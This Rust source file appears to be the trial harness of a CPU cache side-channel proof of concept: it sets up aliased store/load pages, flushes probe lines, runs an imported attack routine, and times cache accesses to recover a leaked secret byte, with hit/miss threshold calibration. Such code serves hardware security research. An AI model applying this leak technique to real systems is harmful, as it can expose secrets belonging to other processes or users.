use crate::alias::{setup_alias, AliasedPair};
use crate::attack::attack;
use crate::config::{EvictionOrder, TrialConfig};
use crate::report::printable;

use cache_side_channel::table_side_channel::{probe_cache, ProbeArray};
use cache_side_channel::HardwareTimingSource;
use cache_utils::calibration::{
    calibrate, hit_miss_threshold, HistParams, Prepare, ThresholdCalibration, HIT_MISS_OPERATIONS,
};
use serde::Serialize;

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(tag = "status", rename_all = "snake_case")]
pub enum TrialStatus {
    Completed {
        store_addr: usize,
        load_addr: usize,
        leaked_byte: u8,
        confidence: i32,
        success: bool,
    },
    Incomplete {
        reason: String,
    },
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct TrialOutcome {
    pub secret_byte: u8,
    #[serde(flatten)]
    pub status: TrialStatus,
}

impl TrialOutcome {
    pub fn success(&self) -> bool {
        matches!(self.status, TrialStatus::Completed { success: true, .. })
    }

    pub fn is_incomplete(&self) -> bool {
        matches!(self.status, TrialStatus::Incomplete { .. })
    }

    pub fn confidence(&self) -> Option<i32> {
        match self.status {
            TrialStatus::Completed { confidence, .. } => Some(confidence),
            TrialStatus::Incomplete { .. } => None,
        }
    }

    pub fn leaked_byte(&self) -> Option<u8> {
        match self.status {
            TrialStatus::Completed { leaked_byte, .. } => Some(leaked_byte),
            TrialStatus::Incomplete { .. } => None,
        }
    }
}

fn evict<S: HardwareTimingSource + ?Sized>(
    source: &mut S,
    pair: &AliasedPair,
    probe: &ProbeArray,
) {
    unsafe {
        for entry in probe.entries() {
            source.flush_line(entry);
        }
        source.flush_line(pair.store_addr());
        source.flush_line(pair.load_addr());
    }
}

/// One leak attempt for `secret`: fresh aliased pages, `attack_iterations`
/// rounds of evict, wait and attack, then a single probe of the cache.
pub fn run_trial<S: HardwareTimingSource + ?Sized>(
    source: &mut S,
    probe: &mut ProbeArray,
    config: &TrialConfig,
    secret: u8,
) -> TrialOutcome {
    let pair = match setup_alias(config.offset) {
        Ok(pair) => pair,
        Err(e) => {
            log::warn!("cannot leak {:#04x}: {}", secret, e);
            return TrialOutcome {
                secret_byte: secret,
                status: TrialStatus::Incomplete {
                    reason: e.to_string(),
                },
            };
        }
    };
    log::info!(
        "Attempting to leak: {:#04x} ('{}')",
        secret,
        printable(secret)
    );

    probe.reset();
    for _ in 0..config.attack_iterations {
        match config.eviction_order {
            EvictionOrder::FlushThenDelay => {
                evict(source, &pair, probe);
                config.delay.wait(source);
            }
            EvictionOrder::DelayThenFlush => {
                config.delay.wait(source);
                evict(source, &pair, probe);
            }
        }
        attack(source, &pair, probe, secret);
    }
    log::debug!(
        "{} attack rounds done, {:?} {:?}",
        config.attack_iterations,
        config.eviction_order,
        config.delay
    );

    let result = probe_cache(source, probe, &config.probe);
    let success =
        result.recovered_byte == secret && result.confidence > config.confidence_threshold;
    log::info!(
        "Leaked: {:#04x} ('{}'), confidence: {}",
        result.recovered_byte,
        printable(result.recovered_byte),
        result.confidence
    );

    TrialOutcome {
        secret_byte: secret,
        status: TrialStatus::Completed {
            store_addr: pair.store_addr() as usize,
            load_addr: pair.load_addr() as usize,
            leaked_byte: result.recovered_byte,
            confidence: result.confidence,
            success,
        },
    }
}

/// Hit/miss calibration on every probe line through `source`.
pub fn calibrate_threshold<S: HardwareTimingSource + ?Sized>(
    source: &mut S,
    probe: &ProbeArray,
    hist_params: HistParams,
) -> Option<ThresholdCalibration> {
    let results = unsafe {
        calibrate(
            probe.entry(0),
            probe.stride(),
            probe.len(),
            &HIT_MISS_OPERATIONS,
            hist_params,
            |op, p| {
                match op.prepare {
                    Prepare::Access => source.touch(p),
                    Prepare::Flush => source.flush_line(p),
                }
                source.time_access(p)
            },
        )
    };
    let calibration = hit_miss_threshold(results, hist_params.bucket_size)?;
    log::info!(
        "calibrated hit threshold {} cycles (hit median {}, miss median {}, error rate {:.4})",
        calibration.threshold.cycles,
        calibration.hit_median,
        calibration.miss_median,
        calibration.error.error_rate()
    );
    Some(calibration)
}
